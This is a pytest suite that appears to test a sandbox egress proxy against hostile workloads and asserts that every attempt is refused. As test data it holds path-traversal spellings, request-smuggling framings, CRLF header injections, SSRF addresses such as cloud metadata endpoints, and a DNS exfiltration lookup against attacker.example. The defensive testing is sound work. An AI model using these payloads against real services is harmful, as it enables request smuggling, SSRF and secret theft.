"""What a hostile workload tries on its only road out. In every case the upstream's counters stay where they were."""

import asyncio
import base64
import contextlib
import json
import socket
import ssl

import pytest

from oce.policy.model import Access, Protocol, RequestMatcher, Tls
from oce.sandboxd.egress.arrival import LateGuard
from oce.sandboxd.egress.model import BoundEndpoint, CredentialBinding
from oce.sandboxd.egress.names import address_v4
from oce.sandboxd.egress.swap import BodyScanner, MarkFoundError
from oce.testing.egress_rig import PYTHON
from oce.testing.egress_served import (
    API,
    OTHER,
    PLACEHOLDER,
    SANDBOX,
    SECRET,
    api_endpoint,
    configured,
    hang_up,
    policy_of,
)

pytestmark = pytest.mark.sandbox

HOST = f"Host: {API}\r\n"
GET = f"GET /v1/x HTTP/1.1\r\n{HOST}"


def status(answer):
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0


def error(answer):
    return json.loads(answer.partition(b"\r\n\r\n")[2])["error"]


# one form of the path -------------------------------------------------------------------------------------------------

HIDDEN = [
    "/v1/public/../admin",
    "/v1/public/%2e%2e/admin",
    "//v1//admin",
    "/v1/public/..;/admin",
    "/v1/public%2Fadmin",
    "/v1/public/%252e%252e/admin",
    "/v1/public/\\..\\admin",
    f"https://{API}/v1/admin",
    "/v1/public/%00",
    "/v1/public/%0d%0aX:1",
    "/../v1/public/x",
    "/v1/public/%zz",
    "/v1/public/%c0%ae%c0%ae/admin",
    "/v1/public/.%2e/%61dmin",
    "/v1/public/%2e%2e%3b/admin",
    "/v1/admin;/public/x",
    "*",
    "v1/public/x",
]


@pytest.mark.parametrize("target", HIDDEN)
async def test_no_spelling_of_a_path_leaves_the_allowed_tree(served, target):
    rule = RequestMatcher(method="GET", path="/v1/public/**")
    served.apply(policy_of(api_endpoint(access=Access.NONE, allow=(rule,))))
    answer = await served.exchange(f"GET {target} HTTP/1.1\r\n{HOST}\r\n".encode())
    assert status(answer) in (400, 403), answer
    assert served.upstream.accepted == 0


async def test_what_was_judged_is_what_is_sent(served):
    rule = RequestMatcher(method="GET", path="/v1/public/**")
    served.apply(policy_of(api_endpoint(access=Access.NONE, allow=(rule,))))
    raw = f"get /v1//public/a/./b/../%63;p=1/?q=%2e%2e HTTP/1.1\r\n{HOST}Connection: close\r\n\r\n"
    assert status(await served.exchange(raw.encode())) == 200
    assert served.upstream.seen[0].line == "GET /v1/public/a/c/?q=%2e%2e HTTP/1.1"


# one name -------------------------------------------------------------------------------------------------------------


async def test_the_tls_name_must_be_the_name_that_was_connected_to(served):
    address = socket.inet_ntoa(address_v4(API))
    answer = await served.exchange(
        f"GET / HTTP/1.1\r\nHost: {OTHER}\r\n\r\n".encode(), OTHER, address=address
    )
    assert (status(answer), error(answer)) == (403, "request_authority_mismatch")
    assert served.upstream.accepted == 0


@pytest.mark.parametrize(
    "head",
    [
        "GET /v1/x HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        f"GET /v1/x HTTP/1.1\r\nHost: {API}:8443\r\n\r\n",
        f"GET /v1/x HTTP/1.1\r\nHost: {API}@evil.example\r\n\r\n",
        f"GET https://evil.example/v1/x HTTP/1.1\r\nHost: {API}\r\n\r\n",
        f"GET http://{API}/v1/x HTTP/1.1\r\nHost: {API}\r\n\r\n",
        f"GET /v1/x HTTP/1.1\r\nHost: {API}\r\nHost: evil.example\r\n\r\n",
        "GET /v1/x HTTP/1.1\r\n\r\n",
        f"CONNECT {API}:443 HTTP/1.1\r\nHost: {API}\r\n\r\n",
    ],
)
async def test_host_and_target_must_name_the_connection(served, head):
    assert status(await served.exchange(head.encode())) in (400, 403)
    assert served.upstream.accepted == 0


async def test_a_second_request_on_the_same_session_may_not_name_another_host(served):
    raw = f"{GET}\r\nGET /v1/x HTTP/1.1\r\nHost: {OTHER}\r\n\r\n"
    answer = await served.exchange(raw.encode())
    assert answer.startswith(b"HTTP/1.1 200")
    assert b"request_authority_mismatch" in answer
    assert len(served.upstream.seen) == 1


async def test_the_same_name_in_another_spelling_is_the_same_name(served):
    raw = f"GET /v1/x HTTP/1.1\r\nHost: {API.upper()}.:443\r\nConnection: close\r\n\r\n"
    assert status(await served.exchange(raw.encode())) == 200
    assert served.upstream.seen[0].all("host") == [API]


async def test_tls_without_a_name_and_addresses_get_nothing(served):
    with pytest.raises((ConnectionError, ssl.SSLError)):
        await served.open(sni=None)
    reader, writer = await served.open(address="1.1.1.1", sni=None)
    answer = await served.converse(reader, writer, b"GET / HTTP/1.1\r\nHost: 1.1.1.1\r\n\r\n")
    assert error(answer) == "policy_denied"
    answer = await served.exchange(GET.encode() + b"\r\n", address="93.184.216.34")
    assert status(answer) == 403
    reader, writer = await served.open_plain("1.1.1.1", address="1.1.1.1")
    answer = await served.converse(reader, writer, b"GET / HTTP/1.1\r\nHost: 1.1.1.1\r\n\r\n")
    assert status(answer) == 403
    assert served.upstream.accepted == 0
    assert served.queries == []


async def test_skipped_tls_with_a_foreign_name_is_not_relayed(served):
    served.apply(
        policy_of(api_endpoint(protocol="tcp", access=Access.NONE, tls=Tls.SKIP)), bindings=()
    )
    address = socket.inet_ntoa(address_v4(API))
    answer = await served.exchange(f"{GET}\r\n".encode(), "evil.example", address=address)
    assert status(answer) == 403
    assert served.upstream.accepted == 0


async def test_a_credentialed_endpoint_is_never_relayed_unread(served):
    served.apply(policy_of(api_endpoint(protocol="tcp", access=Access.NONE, tls=Tls.SKIP)))
    answer = await served.exchange(f"{GET}\r\n".encode())
    assert error(answer) == "uninspected_credentials"
    assert served.upstream.accepted == 0


# the credential -------------------------------------------------------------------------------------------------------

BASIC = base64.b64encode(b"x:openshell:resolve:env:UNKNOWN").decode()
LEAKS = {
    "unknown key": (f"{GET}Authorization: Bearer openshell:resolve:env:OTHER_KEY\r\n\r\n", 500),
    "longer key": (f"{GET}Authorization: Bearer {PLACEHOLDER}_2\r\n\r\n", 500),
    "alias": (f"{GET}Authorization: Bearer sk-OPENSHELL-RESOLVE-ENV-OPENAI_API_KEY\r\n\r\n", 500),
    "unknown in basic": (f"{GET}Authorization: Basic {BASIC}\r\n\r\n", 500),
    "outside the bound path": (f"GET /v2/x HTTP/1.1\r\n{HOST}Authorization: Bearer {PLACEHOLDER}\r\n\r\n", 403),
    "path": (f"GET /v2/{PLACEHOLDER} HTTP/1.1\r\n{HOST}\r\n", 403),
    "path unknown": (f"GET /v1/openshell%3aresolve%3aenv%3aX HTTP/1.1\r\n{HOST}\r\n", 500),
    "query unknown": (f"GET /v1/?k=%6fpenshell:resolve:env:X HTTP/1.1\r\n{HOST}\r\n", 500),
    "query twice encoded": (f"GET /v1/?k=openshell%253Aresolve%253Aenv%253AX HTTP/1.1\r\n{HOST}\r\n", 500),
    "two lines": (f"{GET}Authorization: Bearer openshell:resolve:\r\nX: env:OPENAI_API_KEY\r\n\r\n", 500),
    "folded": (f"{GET}Authorization: Bearer openshell:resolve:\r\n env:OPENAI_API_KEY\r\n\r\n", 400),
    "field name": (f"{GET}OPENSHELL-RESOLVE-ENV-X: 1\r\n\r\n", 500),
    "body": (f"POST /v1/x HTTP/1.1\r\n{HOST}Content-Length: {len(PLACEHOLDER)}\r\n\r\n{PLACEHOLDER}", 403),
}  # fmt: skip


@pytest.mark.parametrize("case", LEAKS)
async def test_a_placeholder_that_cannot_be_replaced_never_leaves(served, case):
    raw, expected = LEAKS[case]
    answer = await served.exchange(raw.encode())
    assert status(answer) == expected, answer
    assert error(answer) in (
        "credential_unavailable",
        "credential_endpoint_mismatch",
        "bad_request",
    )
    assert served.upstream.accepted == 0


async def test_a_large_body_is_cut_off_before_the_placeholder_is_whole(served):
    filler = b"x" * 200_000
    mark = PLACEHOLDER.encode()
    pieces = [filler, mark[:9], mark[9:20], mark[20:], filler]
    raw = b"".join(b"%x\r\n%b\r\n" % (len(p), p) for p in pieces) + b"0\r\n\r\n"
    head = f"POST /v1/x HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n".encode()
    answer = await served.exchange(head + raw)
    assert status(answer) == 403, answer[:200]
    assert served.upstream.seen == []
    assert b"openshell:" not in served.upstream.raw


async def test_the_credential_goes_to_no_other_host_program_or_scheme(served):
    served.apply(policy_of(api_endpoint(), api_endpoint(OTHER)))
    raw = f"GET /v1/x HTTP/1.1\r\nHost: {OTHER}\r\nAuthorization: Bearer {PLACEHOLDER}\r\n\r\n"
    assert error(await served.exchange(raw.encode(), OTHER)) == "credential_endpoint_mismatch"

    narrowed = CredentialBinding(
        provider_id="p1", provider_name="openai", credential_key="OPENAI_API_KEY", placeholder=PLACEHOLDER,
        endpoints=(BoundEndpoint(host=API, port=443), BoundEndpoint(host=API, port=80)), binaries=("/usr/bin/other",),
    )  # fmt: skip
    served.apply(policy_of(api_endpoint()), bindings=(narrowed,))
    raw = f"{GET}Authorization: Bearer {PLACEHOLDER}\r\n\r\n"
    assert error(await served.exchange(raw.encode())) == "credential_endpoint_mismatch"

    wide = CredentialBinding(
        provider_id="p1", provider_name="openai", credential_key="OPENAI_API_KEY", placeholder=PLACEHOLDER,
        endpoints=(BoundEndpoint(host=API, port=80),),
    )  # fmt: skip
    served.apply(policy_of(api_endpoint(ports=(80,))), bindings=(wide,))
    reader, writer = await served.open_plain()
    assert (
        error(await served.converse(reader, writer, raw.encode())) == "credential_endpoint_mismatch"
    )
    assert served.upstream.accepted == 0
    assert served.queries == []


@pytest.mark.parametrize("value", ["sk\r\nX-Admin: 1", "sk\0", "sk\n", "schlüssel€"])
async def test_a_value_that_would_break_the_message_is_not_sent(served, value):
    served.service.put_credentials("p1", 2, {"OPENAI_API_KEY": value})
    answer = await served.exchange(f"{GET}Authorization: Bearer {PLACEHOLDER}\r\n\r\n".encode())
    assert (status(answer), error(answer)) == (500, "credential_unavailable")
    assert served.upstream.accepted == 0


async def test_a_detached_or_forgotten_credential_stops_the_request(served):
    raw = f"{GET}Authorization: Bearer {PLACEHOLDER}\r\n\r\n".encode()
    served.apply(policy_of(api_endpoint()), bindings=())
    assert error(await served.exchange(raw)) == "credential_unavailable"
    served.apply(policy_of(api_endpoint()))
    served.service.delete_credentials("p1")
    assert error(await served.exchange(raw)) == "credential_unavailable"
    assert served.upstream.accepted == 0


async def test_no_decision_names_the_secret_or_a_query(served):
    raw = f"GET /v1/x?key=s3cr3t-ccc HTTP/1.1\r\n{HOST}Authorization: Bearer {PLACEHOLDER}\r\nConnection: close\r\n\r\n"
    assert status(await served.exchange(raw.encode())) == 200
    denied = await served.exchange(
        b"GET /?key=s3cr3t-ccc HTTP/1.1\r\nHost: evil.example\r\n\r\n", "evil.example"
    )
    assert b"s3cr3t" not in denied
    await served.settled(lambda: len(served.decisions) >= 4)
    assert "s3cr3t" not in repr(served.decisions)
    assert SECRET not in repr(served.decisions)


# framing --------------------------------------------------------------------------------------------------------------

POST = f"POST /v1/x HTTP/1.1\r\n{HOST}"
FRAMING = {
    "two lengths": f"{POST}Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
    "same length twice": f"{POST}Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello",
    "length list": f"{POST}Content-Length: 5, 5\r\n\r\nhello",
    "signed length": f"{POST}Content-Length: +5\r\n\r\nhello",
    "both": f"{POST}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "unknown coding": f"{POST}Transfer-Encoding: chunkedx\r\n\r\n0\r\n\r\n",
    "coding list": f"{POST}Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
    "coding twice": f"{POST}Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "space before colon": f"{POST}Content-Length : 5\r\n\r\nhello",
    "tab in coding": f"{POST}Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
    "bare feed": f"GET /v1/x HTTP/1.1\nHost: {API}\n\n",
    "bare feed in field": f"GET /v1/x HTTP/1.1\r\n{HOST}X: a\nY: b\r\n\r\n",
    "bare return": f"GET /v1/x HTTP/1.1\r\n{HOST}X: a\rY: b\r\n\r\n",
    "nul": f"GET /v1/x HTTP/1.1\r\n{HOST}X: a\0b\r\n\r\n",
    "folding": f"GET /v1/x HTTP/1.1\r\n{HOST}X: a\r\n b\r\n\r\n",
    "no version": f"GET /v1/x\r\n{HOST}\r\n",
    "http/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "nominated host": f"GET /v1/x HTTP/1.1\r\n{HOST}Connection: host\r\n\r\n",
    "nominated length": f"{POST}Content-Length: 5\r\nConnection: content-length\r\n\r\nhello",
    "old and chunked": f"POST /v1/x HTTP/1.0\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
}


@pytest.mark.parametrize("case", FRAMING)
async def test_a_message_with_two_readings_is_refused(served, case):
    answer = await served.exchange(FRAMING[case].encode("latin-1"))
    assert status(answer) == 400, answer
    assert served.upstream.accepted == 0


@pytest.mark.parametrize(
    "chunk", ["5\nhello\n", "0x5\r\nhello\r\n", "5\r\nhelloX\r\n", "-1\r\n", "5 ;a\nb\r\nhello\r\n"]
)
async def test_malformed_chunks_break_the_request_off(served, chunk):
    raw = f"{POST}Transfer-Encoding: chunked\r\n\r\n{chunk}0\r\n\r\n"
    assert status(await served.exchange(raw.encode())) == 400
    assert served.upstream.seen == []


async def test_a_header_block_of_64_kib_is_too_large(served):
    raw = f"{GET}X: {'a' * 65536}\r\n\r\n"
    assert status(await served.exchange(raw.encode())) == 431
    assert served.upstream.accepted == 0


async def test_a_pipelined_second_request_is_judged_like_the_first(served):
    served.apply(policy_of(api_endpoint(access=Access.READ_ONLY)))
    answer = await served.exchange(f"{GET}\r\nDELETE /v1/x HTTP/1.1\r\n{HOST}\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 200")
    assert b"HTTP/1.1 403" in answer
    assert [seen.line for seen in served.upstream.seen] == ["GET /v1/x HTTP/1.1"]


@pytest.mark.parametrize(
    "head",
    [
        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n",
        b"HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nX: a\r\n b\r\n\r\n",
        b"garbage\r\n\r\n",
    ],
)
async def test_an_ambiguous_or_unasked_answer_is_a_bad_gateway(served, head):
    async def script(_, writer):
        writer.write(head)
        return False

    served.upstream.script = script
    assert status(await served.exchange(f"{GET}\r\n".encode())) == 502


# addresses ------------------------------------------------------------------------------------------------------------

BAD = [
    "0.0.0.0",  # noqa: S104 - an address to refuse
    "::", "127.0.0.1", "::1", "::ffff:169.254.169.254", "169.254.169.254", "10.1.2.3", "100.64.0.1",
    "fe80::1", "fd00::1", "64:ff9b::a9fe:a9fe", "::ffff:127.0.0.1", "198.18.0.1", "224.0.0.1", "2002:7f00:1::",
]  # fmt: skip


@pytest.mark.parametrize("address", BAD)
async def test_an_allowed_name_that_leads_inwards_is_not_dialled(served, address, monkeypatch):
    dialled = []

    async def record(addresses, port):
        dialled.append(addresses)
        raise AssertionError

    monkeypatch.setattr("oce.sandboxd.egress.upstream._connect", record)
    served.apply(policy_of(api_endpoint("allowed.example")))
    served.answers[:] = ["93.184.216.34", address]
    answer = await served.exchange(
        b"GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n", "allowed.example"
    )
    assert (status(answer), error(answer)) == (403, "ssrf_denied")
    assert dialled == []
    assert served.queries == ["allowed.example:443"]
    await served.settled(lambda: any(d.engine == "ssrf" for d in served.decisions))


async def test_the_upstream_must_prove_its_name(served):
    """The override sends the name to the upstream, whose certificate is for other names under the same root."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    pem = next(served.ca_file.parent.glob(f"{API}.pem"))
    context.load_cert_chain(pem)
    served.service._dialer._contexts.clear()
    served.service._dialer._contexts.update(
        {o.ca_file: ssl.create_default_context() for o in served.service._config.upstreams.values()}
    )
    answer = await served.exchange(f"{GET}\r\n".encode())
    assert (status(answer), error(answer)) == (502, "upstream_tls_failed")
    assert served.upstream.seen == []


# the walls ------------------------------------------------------------------------------------------------------------


async def test_denied_names_cause_no_lookup_and_nothing_else_gets_out(served):
    run = served.inside.run
    found = await run("/usr/bin/getent", "ahosts", "secret-1234.attacker.example")
    assert found.out.split()[0].startswith(("198.1", "fd7a:5bcd:1:"))
    direct = await run("/usr/bin/curl", "-sk", "--noproxy", "*", "-m", "5", "https://1.1.1.1")
    assert "policy_denied" in direct.out
    udp = (
        "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(2)\n"
        "s.connect(('8.8.8.8',443));s.send(b'x')\ntry: s.recv(1)\nexcept OSError as e: print(type(e).__name__)"
    )
    assert (await run(PYTHON, "-c", udp)).out.strip() == "ConnectionRefusedError"
    assert served.queries == []
    assert served.upstream.accepted == 0


async def test_a_silent_client_of_a_denied_destination_is_reset_soon(served):
    reader, writer = await served.open_plain("evil.example", port=443)
    loop = asyncio.get_running_loop()
    start = loop.time()
    with pytest.raises(ConnectionResetError):
        async with asyncio.timeout(5):
            await reader.read(1)
    assert loop.time() - start < 3
    await hang_up(writer)


async def test_a_socket_that_two_programs_hold_needs_both_allowed(served):
    """Python (allowed) opens the connection and leaves a copy to `sleep` (not allowed)."""
    program = (
        "import socket,ssl,subprocess,sys\n"
        f"s=socket.create_connection(('{API}',443));s.set_inheritable(True)\n"
        "p=subprocess.Popen(['/bin/sleep','30'],close_fds=False)\n"
        f"c=ssl.create_default_context(cafile=sys.argv[1]);t=c.wrap_socket(s,server_hostname='{API}')\n"
        f"t.sendall(b'GET /v1/x HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n')\n"
        "print(t.recv(9999).decode());p.kill()"
    )
    ran = await served.inside.run(PYTHON, "-c", program, str(served.ca_file))
    assert "403" in ran.out, ran
    assert served.upstream.seen == []


async def test_a_program_under_an_allowed_path_that_is_another_file_is_not_allowed(served):
    """The mount view says that another file is shown at this path: device and inode differ."""
    config = configured(policy_of(api_endpoint()), generation=9)
    changed = {"/": "/", PYTHON: "/usr/bin/curl"}
    served.service.update(
        type(config)(**{**{k: getattr(config, k) for k in config.__slots__}, "mounts": changed})
    )
    answer = await served.exchange(f"{GET}\r\n".encode())
    assert status(answer) == 403
    assert served.upstream.accepted == 0
    await served.settled(lambda: any("not the file" in d.reason for d in served.decisions))


async def test_a_flood_of_descriptors_is_a_denial_and_not_a_stall(served, monkeypatch):
    monkeypatch.setattr("oce.sandboxd.egress.identity.TOTAL_BUDGET", 1)
    monkeypatch.setattr("oce.sandboxd.egress.identity.INLINE_BUDGET", 1)
    answer = await served.exchange(f"{GET}\r\n".encode())
    assert status(answer) == 403
    assert served.upstream.accepted == 0


async def test_the_number_of_open_connections_is_capped(served):
    sandbox = served.service._sandboxes[SANDBOX]
    sandbox._max_connections = 3
    held = [await served.open() for _ in range(3)]
    with pytest.raises((ConnectionError, ssl.SSLError)):
        await served.open()
    for _, writer in held:
        await hang_up(writer)


async def test_names_cannot_be_made_up_without_end(served):
    authority = served.service._authority(SANDBOX)
    authority._clock = lambda: authority._refilled
    refused = 0
    for number in range(80):
        try:
            _, writer = await served.open(f"n{number}.evil.example")
        except (ConnectionError, ssl.SSLError):
            refused += 1
        else:
            await hang_up(writer)
    assert refused >= 16


async def test_waiting_before_the_hello_does_not_dodge_the_judging_of_names(served):
    """On 443 a silent client gets no raw relay, even where the policy judges connections only."""
    served.apply(policy_of(api_endpoint(protocol=Protocol.TCP, access=Access.NONE)), bindings=())
    sock = await served.inside.connect(socket.inet_ntoa(address_v4(API)), 443)
    reader, writer = await asyncio.open_connection(sock=sock)
    with pytest.raises(TimeoutError):
        async with asyncio.timeout(0.6):
            await reader.read(1)
    assert served.upstream.accepted == 0
    answer = await served.converse(reader, writer, b"SSH-2.0-x\r\n\r\n")
    assert status(answer) == 400
    assert served.upstream.accepted == 0


@pytest.mark.parametrize("late", [b"\x16\x03\x01", b"GET / HTTP/1.1\r\n", b"P"])
def test_a_relay_that_began_in_silence_ends_at_tls_and_http(late):
    guard = LateGuard(BodyScanner([b"openshell:resolve:"]))
    if late == b"P":
        assert guard.feed(late) == b""
        assert guard.feed(b"ASS x") == b"PASS x"
        return
    sent = b""
    for byte in late[:-1]:
        with contextlib.suppress(MarkFoundError):
            sent += guard.feed(bytes([byte]))
    with pytest.raises(MarkFoundError):
        guard.feed(late[-1:])
    assert sent == b""


async def test_a_policy_that_no_longer_allows_the_host_ends_a_running_stream(served):
    async def script(_, writer):
        writer.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n")
        return True

    served.upstream.script = script
    reader, writer = await served.open()
    writer.write(f"{GET}\r\n".encode())
    async with asyncio.timeout(5):
        await reader.readuntil(b"1\r\nx\r\n")
        served.apply(policy_of(api_endpoint(OTHER)))
        with pytest.raises((ConnectionError, EOFError)):
            await reader.readexactly(1)
    await hang_up(writer)
